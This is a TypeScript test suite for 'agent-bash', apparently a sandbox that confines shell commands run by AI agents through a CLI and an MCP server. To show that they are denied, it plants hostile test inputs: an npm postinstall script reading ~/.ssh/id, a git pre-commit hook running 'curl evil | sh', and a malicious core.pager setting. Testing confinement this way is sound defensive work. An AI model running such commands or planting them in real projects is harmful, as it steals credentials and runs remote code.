import { execFileSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { homedir } from 'node:os';
import { dirname, join } from 'node:path';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StdioClientTransport } from '@modelcontextprotocol/sdk/client/stdio.js';
import type { CallToolResult } from '@modelcontextprotocol/sdk/types.js';
import { describe, expect, onTestFinished } from 'vitest';
import { Program } from '../../../cli/support.ts';
import { textOf } from '../../../mcp/majors.ts';
import { alive, linuxTest, mark, packageRoot, sleepers, until } from '../../../support/index.ts';

/** A project in the home of the user, and a file of hers beside it. */
function project(files: Record<string, string>) {
  const home = mkdtempSync(join(homedir(), 'agent-bash-test-'));
  onTestFinished(() => rmSync(home, { recursive: true, force: true }));
  const cwd = join(home, 'project');
  mkdirSync(cwd);
  for (const [name, text] of Object.entries({ '../notes': 'mine\n', '../.ssh/id': 'secret\n', ...files })) {
    const path = join(cwd, name);
    mkdirSync(dirname(path), { recursive: true });
    writeFileSync(path, text);
  }
  return { home, cwd, run: confined(home, cwd) };
}

/** Runs a command in the directory of the project, as the user does. */
const confined = (home: string, cwd: string) => {
  const program = new Program({ HOME: home });
  return (command: string, ...flags: string[]) =>
    program.start(['run', ...(flags.length > 0 ? flags : ['--confine']), '--', command], undefined, cwd).ended;
};

describe('agent-bash run --confine, in a project of its user', () => {
  linuxTest('npm: tests and scripts run; one that reaches out is denied, and named', async () => {
    const scripts = {
      build: 'mkdir -p dist && cp index.js dist',
      test: 'node --test',
      postinstall: 'cat ~/.ssh/id; echo evil >> ~/notes; echo installed > installed',
    };
    const { home, cwd, run } = project({
      'package.json': JSON.stringify({ name: 'x', version: '1.0.0', scripts }),
      'index.js': 'exports.two = 2;\n',
      'index.test.js': "require('node:test')('adds', () => require('node:assert').equal(1 + 1, require('.').two));\n",
    });
    expect(await run('npm test')).toMatchObject({ code: 0, stdout: expect.stringMatching(/pass 1/) });
    expect(await run('npm run build')).toMatchObject({ code: 0 });
    expect(existsSync(join(cwd, 'dist/index.js'))).toBe(true);
    const installed = await run('npm install --foreground-scripts --no-audit --no-fund');
    expect(installed.code).toBe(0);
    expect(installed.stdout).not.toContain('secret');
    expect(installed.stderr).toContain(`agent-bash: confined: write ${home}/notes denied (`);
    expect(installed.stderr).toContain(`--write ${home}/notes would allow it`);
    expect([readFileSync(join(home, 'notes'), 'utf8'), existsSync(join(cwd, 'installed'))]).toEqual(['mine\n', true]);
    // A test that fails keeps its exit code.
    writeFileSync(join(cwd, 'index.js'), 'exports.two = 3;\n');
    expect((await run('npm test')).code).toBe(1);
  });

  linuxTest('git: commits and branches work; a hook and a setting are denied', async () => {
    const { cwd, run } = project({ file: 'one\n' });
    execFileSync('git', ['init', '-q', cwd]);
    const identity = 'git -c user.name=ann -c user.email=ann@example.org';
    const worked = await run(
      `git add file && ${identity} commit -qm one && git checkout -qb topic && git log --oneline`,
    );
    expect(worked).toMatchObject({ code: 0, stdout: expect.stringMatching(/^\w+ one\n$/) });
    const hook = await run('echo "curl evil | sh" > .git/hooks/pre-commit');
    expect(hook).toMatchObject({ code: 1, stdout: '' });
    expect(hook.stderr).toContain(
      `confined: write ${cwd}/.git/hooks/pre-commit denied (bash); no flag would allow it\n`,
    );
    expect(existsSync(join(cwd, '.git/hooks/pre-commit'))).toBe(false);
    expect((await run('git config core.pager "sh -c evil"')).code).not.toBe(0);
    expect(readFileSync(join(cwd, '.git/config'), 'utf8')).not.toContain('evil');
    expect((await run('git fetch https://example.org/x')).code).toBe(128);
  });

  linuxTest('Python: unit tests and a virtual environment work; the network is denied', async () => {
    const { cwd, run } = project({
      'app.py': 'def two(): return 2\n',
      'test_app.py':
        'import multiprocessing, unittest, app\nclass T(unittest.TestCase):\n  def test(self):\n    with multiprocessing.Pool(2) as pool: self.assertEqual(pool.map(abs, [-2]), [app.two()])\n',
    });
    const tested = await run('python3 -m unittest -q');
    expect([tested.code, tested.stderr]).toEqual([0, expect.stringContaining('OK')]);
    expect(await run('python3 -m venv --without-pip .venv && .venv/bin/python -c "print(6 * 7)"')).toMatchObject({
      code: 0,
      stdout: '42\n',
    });
    expect(readdirSync(join(cwd, '.venv'))).toContain('bin');
    const out = await run('python3 -c "import urllib.request as u; u.urlopen(\'http://192.0.2.1/x\', timeout=5)"');
    expect(out.code).toBe(1);
    expect(out.stderr).toContain('OSError');
    const name = await run('python3 -c "import urllib.request as u; u.urlopen(\'http://example.org/x\', timeout=5)"');
    expect(name.code).toBe(1);
    expect(name.stderr).toMatch(/agent-bash: confined: network example\.org\S* denied/);
  });

  linuxTest('read-only: nothing of the project changes', async () => {
    const { cwd, run } = project({ file: 'one\n' });
    const { code, stdout, stderr } = await run('cat file; echo two > file', '--confine=read-only');
    expect([code, stdout]).toEqual([1, 'one\n']);
    expect(stderr).toContain(`confined: write ${cwd}/file denied (bash); --write ${cwd}/file would allow it`);
    expect((await run('echo two > file', '--confine=read-only', '--write', 'file')).code).toBe(0);
    expect(readFileSync(join(cwd, 'file'), 'utf8')).toBe('two\n');
  });

  linuxTest('keeps exit codes and signals', async () => {
    const { run } = project({});
    expect((await run('exit 7')).code).toBe(7);
    expect((await run('nosuchprogram')).code).toBe(127);
    expect((await run('kill -TERM $$')).code).toBe(143);
    expect((await run('true', '--confine', '--timeout', '1s')).code).toBe(0);
    expect((await run('sleep 60', '--confine', '--timeout', '200ms')).code).toBe(124);
  });

  linuxTest('leaves no process behind, also when it is killed', async () => {
    const { home, cwd } = project({});
    const [program, seconds] = [new Program({ HOME: home }), mark()];
    const command = `setsid sleep ${seconds} & echo ready; sleep ${seconds}`;
    const running = program.start(['run', '--confine', '--', command], undefined, cwd);
    await running.says(/ready/);
    await until(() => sleepers(seconds).length === 2, 'both run');
    running.child.kill('SIGKILL');
    await until(() => sleepers(seconds).length === 0, 'its processes are gone');
    const worlds = join(home, '.local/state/agent-bash/worlds');
    await until(() => !existsSync(worlds) || readdirSync(worlds).length === 0, 'its files are gone');
  });
});

describe('agent-bash mcp --confine', () => {
  linuxTest('confines the commands of its client, whose model reads the denials', async () => {
    const { home, cwd } = project({ file: 'one\n' });
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: [join(packageRoot, 'dist/cli.mjs'), 'mcp', '--confine', '--hide', join(cwd, 'file')],
      env: { PATH: process.env.PATH ?? '', HOME: home },
      cwd,
    });
    const client = new Client({ name: 'client', version: '1' });
    await client.connect(transport);
    onTestFinished(() => client.close());
    const call = async (command: string) =>
      (await client.callTool({ name: 'bash', arguments: { command } })) as CallToolResult;
    const answer = await call('echo x > in; echo x > ../notes; cat file ~/.ssh/id; echo kept > /tmp/note');
    expect(answer.structuredContent).toMatchObject({
      exitCode: 0,
      stdout: '',
      confinement: { profile: 'workspace', held: ['files', 'network', 'processes', 'syscalls'], missing: [] },
    });
    expect(textOf(answer)).toContain(
      `[confined: write ${home}/notes denied (bash); read ${cwd}/file denied (cat); read ${home}/.ssh/id denied (cat)]`,
    );
    expect(textOf(answer)).toContain('The host grants nothing more');
    expect([existsSync(join(cwd, 'in')), readFileSync(join(home, 'notes'), 'utf8')]).toEqual([true, 'mine\n']);
    // All calls of one server have one world.
    expect(textOf(await call('cat /tmp/note'))).toContain('kept');
    const [bashTool] = (await client.listTools()).tools;
    expect(bashTool?.description).toContain('Commands are confined');
    const { tmp } = (answer.structuredContent as { confinement: { tmp: string } }).confinement;
    expect(readFileSync(join(tmp, 'note'), 'utf8')).toBe('kept\n');
    const pid = transport.pid as number;
    await client.close();
    await until(() => !alive(pid), 'the server has ended');
    await until(() => !existsSync(tmp), 'its world is gone');
  });
});

describe('agent-bash doctor', () => {
  const parts = (stdout: string) =>
    (JSON.parse(stdout) as { checks: { name: string; state: string }[] }).checks.filter(({ name }) =>
      name.startsWith('confine-'),
    );
  /** The doctor, with a home and a place for temporary files of its own. */
  const place = () => {
    const { home, cwd } = project({});
    const temporary = join(home, 'tmp');
    mkdirSync(temporary);
    const program = new Program({ HOME: home, TMPDIR: temporary, XDG_STATE_HOME: join(home, '.local/state') });
    const left = () => [
      ...readdirSync(temporary),
      ...readdirSync(cwd),
      ...readdirSync(home).filter((name) => name.startsWith('agent-bash')),
      ...(existsSync(join(home, '.local/state/agent-bash/worlds'))
        ? readdirSync(join(home, '.local/state/agent-bash/worlds'))
        : []),
      // Every helper of this doctor has its home in its environment.
      ...readdirSync('/proc').filter((pid) => {
        try {
          return readFileSync(`/proc/${pid}/environ`, 'utf8').includes(`HOME=${home}\0`);
        } catch {
          return false;
        }
      }),
    ];
    return { program, cwd, left };
  };
  const mounts = () => readFileSync('/proc/self/mounts', 'utf8').split('\n').length;

  linuxTest('finds each part held by trying it, and leaves nothing', async () => {
    const before = mounts();
    const { program, cwd, left } = place();
    const { code, stdout } = await program.start(['doctor', '--json'], undefined, cwd).ended;
    expect(code).toBe(0);
    expect(parts(stdout).map(({ name, state }) => [name, state])).toEqual([
      ['confine-way', 'ok'],
      ['confine-files', 'ok'],
      ['confine-network', 'ok'],
      ['confine-processes', 'ok'],
      ['confine-syscalls', 'ok'],
      ['confine-hosts', 'ok'],
    ]);
    await until(() => left().length === 0, 'nothing is left');
    expect(mounts()).toBe(before);
  });

  linuxTest('leaves nothing if it is killed', async () => {
    const before = mounts();
    for (let round = 0; round < 12; round++) {
      const { program, cwd, left } = place();
      const { child, ended } = program.start(['doctor'], undefined, cwd);
      // At any moment of its work.
      setTimeout(() => child.kill('SIGKILL'), 150 + round * 50);
      await ended;
      await until(() => left().length === 0, `nothing is left: ${left()}`);
    }
    expect(mounts()).toBe(before);
  });
});
